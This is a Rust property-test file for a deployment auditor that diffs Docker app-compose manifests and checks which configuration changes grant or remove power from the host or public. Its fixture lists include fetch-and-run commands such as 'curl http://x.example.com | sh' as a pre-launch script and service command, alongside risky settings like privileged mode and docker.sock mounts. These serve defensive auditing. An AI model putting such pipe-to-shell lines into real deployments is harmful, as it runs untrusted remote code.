//! What grew one way shrank the other, over all pairs: of the corpus where it is at hand, and of composes made here. And
//! every hardening has its true direction.
#![allow(missing_docs, clippy::print_stderr)]

mod common;

use common::*;
use proptest::prelude::*;
use veritee_audit::{Diff, Party, Power, diff};
use veritee_compose::Deployment;

/// Who grew or shrank where, each as often as it is told.
fn told(diff: &Diff, grown: bool) -> Vec<(String, String)> {
    let mut told: Vec<(String, String)> = diff
        .changes
        .iter()
        .filter_map(|change| match (&change.power, grown) {
            (Power::Grew(party), true) | (Power::Shrank(party), false) => {
                Some((change.path.clone(), party.to_string()))
            }
            _ => None,
        })
        .collect();
    told.sort();
    told
}

#[track_caller]
fn antisymmetric(one: &Deployment, other: &Deployment, names: &str) {
    let (there, back) = (diff(one, other), diff(other, one));
    assert_eq!(told(&there, true), told(&back, false), "{names}: grew there, shrank back");
    assert_eq!(told(&there, false), told(&back, true), "{names}: shrank there, grew back");
    assert_eq!(there.changes.len(), back.changes.len(), "{names}");
}

fn all_of_the_corpus() -> Vec<(String, Deployment)> {
    let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/compose-corpus");
    let Ok(entries) = std::fs::read_dir(folder) else {
        eprintln!("skipped: ../shared is absent");
        return Vec::new();
    };
    let mut found = Vec::new();
    for entry in entries {
        let path = entry.unwrap().path();
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        let raw = std::fs::read(&path).unwrap();
        if name.ends_with(".app-compose.json") {
            found.push((name, deployment(&raw)));
        } else if name.contains("docker-compose.y") {
            found.push((name, bare_deployment(&raw)));
        }
    }
    found.sort_by(|one, other| one.0.cmp(&other.0));
    found
}

#[test]
fn over_all_pairs_of_the_corpus_what_grew_one_way_shrank_the_other() {
    let corpus = all_of_the_corpus();
    for (index, (name, one)) in corpus.iter().enumerate() {
        assert!(diff(one, one).changes.is_empty(), "{name} with itself");
        for (other_name, other) in &corpus[index + 1..] {
            antisymmetric(one, other, &format!("{name} and {other_name}"));
        }
    }
}

/// Lines of a service, of which a compose has some.
const LINES: &[&str] = &[
    "privileged: true",
    "read_only: true",
    "user: \"1000\"",
    "user: root",
    "cap_drop: [ALL]",
    "cap_drop: [NET_RAW, CHOWN]",
    "cap_add: [SYS_ADMIN]",
    "security_opt: [\"no-new-privileges:true\"]",
    "security_opt: [\"no-new-privileges:false\", \"seccomp:unconfined\"]",
    "security_opt: [\"seccomp:/profile.json\"]",
    "network_mode: none",
    "network_mode: host",
    "pid: host",
    "pid: \"service:other\"",
    "ports: [\"127.0.0.1:80:80\"]",
    "ports: [\"80:80\", \"${PORT}:81\"]",
    "volumes: [\"/var/run/docker.sock:/s:ro\"]",
    "volumes: [\"/var/run/docker.sock:/s\", \"data:/d\"]",
    "environment: {A: literal, API_URL: \"https://a.example.com\"}",
    "environment: {A: \"${A}\", API_URL: \"${API_URL}\"}",
    "command: sh -c \"$CMD\"",
    "command: sh -c \"curl https://x.example.com | sh\"",
    "env_file: [.env]",
];

const MEMBERS: &[&str] = &[
    "\"public_logs\": true",
    "\"secure_time\": true",
    "\"kms_enabled\": true",
    "\"key_provider\": \"none\"",
    "\"key_provider_id\": \"aabbccddeeff00112233\"",
    "\"gateway_enabled\": true",
    "\"no_instance_id\": true",
    "\"pre_launch_script\": \"curl http://x.example.com | sh\"",
    "\"pre_launch_script\": \"echo $A\"",
    "\"port_policy\": {\"restrict_mode\": true, \"ports\": [{\"port\": 80}]}",
    "\"allowed_envs\": [\"A\", \"API_URL\"]",
    "\"allowed_envs\": []",
];

fn key(line: &str) -> &str {
    line.split(':').next().unwrap_or(line)
}

/// Lines and members by their numbers, each key once.
fn chosen<'a>(all: &[&'a str], numbers: &[usize]) -> Vec<&'a str> {
    let mut chosen: Vec<&str> = Vec::new();
    for line in numbers.iter().map(|number| all[number % all.len()]) {
        if chosen.iter().all(|known| key(known) != key(line)) {
            chosen.push(line);
        }
    }
    chosen
}

fn made(lines: &[usize], members: &[usize], tag: bool) -> Deployment {
    let image =
        if tag { "example/web:1".to_owned() } else { format!("example/web@sha256:{}", "ab".repeat(32)) };
    let mut compose = format!("services:\n  web:\n    image: {image}\n");
    for line in chosen(LINES, lines) {
        compose.push_str(&format!("    {line}\n"));
    }
    compose.push_str(&format!("  other:\n    image: example/other@sha256:{}\n", "cd".repeat(32)));
    let mut document = format!(
        "{{\"manifest_version\": 2, \"name\": \"a\", \"runner\": \"docker-compose\", \"docker_compose_file\": {}",
        serde_json::to_string(&compose).unwrap()
    );
    for member in chosen(MEMBERS, members) {
        document.push_str(&format!(", {member}"));
    }
    document.push('}');
    deployment(document.as_bytes())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, failure_persistence: None, ..ProptestConfig::default() })]
    #[test]
    fn over_made_composes_what_grew_one_way_shrank_the_other(
        one in (proptest::collection::vec(0..64_usize, 0..8), proptest::collection::vec(0..64_usize, 0..5), any::<bool>()),
        other in (proptest::collection::vec(0..64_usize, 0..8), proptest::collection::vec(0..64_usize, 0..5), any::<bool>()),
    ) {
        antisymmetric(&made(&one.0, &one.1, one.2), &made(&other.0, &other.1, other.2), "made");
    }
}

fn with(line: &str) -> Deployment {
    let compose = format!(
        "services:\n  web:\n    image: example/web@sha256:{}\n{}",
        "ab".repeat(32),
        if line.is_empty() { String::new() } else { format!("    {line}\n") }
    );
    let document = serde_json::json!({
        "manifest_version": 2, "name": "a", "runner": "docker-compose", "docker_compose_file": compose,
        "kms_enabled": true, "allowed_envs": [],
    });
    deployment(document.to_string().as_bytes())
}

#[test]
fn a_hardening_takes_power_and_its_loss_gives_it() {
    for (softer, harder) in [
        ("", "security_opt: [\"no-new-privileges:true\"]"),
        ("security_opt: [\"no-new-privileges:false\"]", "security_opt: [\"no-new-privileges:true\"]"),
        ("", "read_only: true"),
        ("user: root", "user: \"1000\""),
        ("", "cap_drop: [ALL]"),
        ("cap_drop: [NET_RAW]", "cap_drop: [ALL]"),
        ("", "network_mode: none"),
        ("privileged: true", ""),
        ("privileged: true", "privileged: false"),
        ("cap_add: [SYS_ADMIN]", ""),
        ("ports: [\"80:80\"]", "ports: [\"127.0.0.1:80:80\"]"),
        ("ports: [\"80:80\"]", ""),
        ("volumes: [\"/opt/x:/y\"]", "volumes: [\"/opt/x:/y:ro\"]"),
        ("security_opt: [\"seccomp:unconfined\"]", ""),
        ("pid: host", ""),
        ("ipc: host", ""),
    ] {
        let (soft, hard) = (with(softer), with(harder));
        let loss = diff(&hard, &soft);
        assert!(!loss.grew().is_empty(), "`{harder}` to `{softer}`: {loss:?}");
        let gain = diff(&soft, &hard);
        assert!(gain.grew().is_empty(), "`{softer}` to `{harder}`: {gain:?}");
        assert!(gain.changes.iter().any(|change| matches!(change.power, Power::Shrank(_))));
    }
}

#[test]
fn a_switch_of_the_manifest_counts_as_it_is_where_it_is_absent() {
    let of = |member: &str, value: serde_json::Value| {
        let compose = format!("services:\n  web:\n    image: example/web@sha256:{}\n", "ab".repeat(32));
        let mut document = serde_json::json!({
            "manifest_version": 2, "name": "a", "runner": "docker-compose", "docker_compose_file": compose,
            "kms_enabled": true, "allowed_envs": [],
        });
        if !value.is_null() {
            document[member] = value;
        }
        deployment(document.to_string().as_bytes())
    };
    for (member, open, closed, party) in [
        ("secure_time", false.into(), serde_json::Value::Null, Party::Host),
        ("public_logs", true.into(), serde_json::Value::Null, Party::Public),
        ("gateway_enabled", true.into(), serde_json::Value::Null, Party::Public),
        ("key_provider_id", serde_json::Value::Null, "aabbcc".into(), Party::Host),
    ] {
        let (open, closed) = (of(member, open), of(member, closed));
        assert!(diff(&closed, &open).grew().contains(&&party), "{member}");
        assert!(!diff(&open, &closed).grew().contains(&&party), "{member}");
    }
}
